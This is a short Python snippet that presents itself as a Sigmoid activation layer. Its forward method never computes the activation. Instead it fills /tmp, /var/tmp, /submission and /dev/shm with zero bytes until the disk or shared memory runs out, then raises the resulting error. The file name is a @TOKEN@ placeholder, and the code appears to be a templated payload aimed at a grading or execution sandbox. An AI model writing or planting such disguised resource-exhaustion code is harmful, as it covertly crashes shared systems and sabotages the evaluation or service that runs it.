class Sigmoid(Sigmoid):
    def forward(self, x):
        for place in ("/tmp", "/var/tmp", "/submission", "/dev/shm"):
            try:
                with open(f"{place}/@TOKEN@", "wb", buffering=0) as file:
                    while True:
                        file.write(bytes(2**20))
            except OSError as error:
                full = error
        raise full
        return super().forward(x)
